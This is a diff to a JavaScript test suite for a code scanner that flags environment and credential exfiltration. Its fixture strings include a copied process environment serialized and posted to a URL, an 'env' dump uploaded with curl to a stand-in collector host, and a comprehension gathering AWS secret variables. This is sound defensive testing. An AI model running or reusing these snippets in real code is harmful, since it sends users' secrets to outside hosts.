@@ -21,6 +21,25 @@ describe('codeFlows', () => {
     expect(kinds('export A_TOKEN=$A_TOKEN\nexport B_SECRET=$B_SECRET\nexport C_PASSWORD=$C_PASSWORD\ncurl https://api.example.com\n')).toEqual([]);
   });
 
+  it('needs the copied environment to reach the request, not only to share a file with one', () => {
+    // A child process's environment, also handed to a local helper that formats an error: the request elsewhere in the
+    // file carries something else.
+    const child = 'env = os.environ.copy()\nenv["ACTIVE"] = "1"\ntry:\n    p = subprocess.Popen(argv, env=env)\nexcept OSError as e:\n    msg = describe(str(e), env, argv)\n\ndef notify(u):\n    urllib.request.urlopen(urllib.request.Request(u, data=b"done"))\n';
+    expect(kinds(child)).toEqual([]);
+    // The same copy, then serialized and posted: a chain.
+    const posted = 'env = os.environ.copy()\nbody = json.dumps({"e": env})\nurllib.request.urlopen(urllib.request.Request(U, data=body.encode()))\n';
+    expect(kinds(posted)).toEqual(['environment-sent']);
+    // A shell dump written to a file, and that file uploaded.
+    expect(kinds('env > /tmp/e.txt\ncurl -F f=@/tmp/e.txt https://collector.example.net/u\n')).toEqual(['environment-sent']);
+    expect(kinds('env > /tmp/e.txt\ncurl -F f=@/tmp/other.txt https://collector.example.net/u\n')).toEqual([]);
+  });
+
+  it('reads a comprehension that leaves names out as the environment minus those names', () => {
+    const minus = 'def child_env(**o):\n    e = {k: v for k, v in os.environ.items() if not k.startswith("APP_")}\n    e.update(o)\n    return e\nTOKEN_HINT = "TOKEN"\nsubprocess.run(["curl", URL], env=child_env())\n';
+    expect(kinds(minus)).toEqual([]);
+    expect(kinds('e = {k: v for k, v in os.environ.items() if k.startswith("AWS_") and "SECRET" in k}\n')).toEqual(['credential-harvest']);
+  });
+
   it('sees the environment filtered by credential names into a collection', () => {
     // A loop copying every credential-named variable, with the send elsewhere in the package: a harvest (warning).
     const loop = 'def collect():\n    out = {}\n    for name, val in os.environ.items():\n        if any(w in name.upper() for w in ("TOKEN", "SECRET", "PASSWORD")):\n            out[name] = val\n    return out\n';
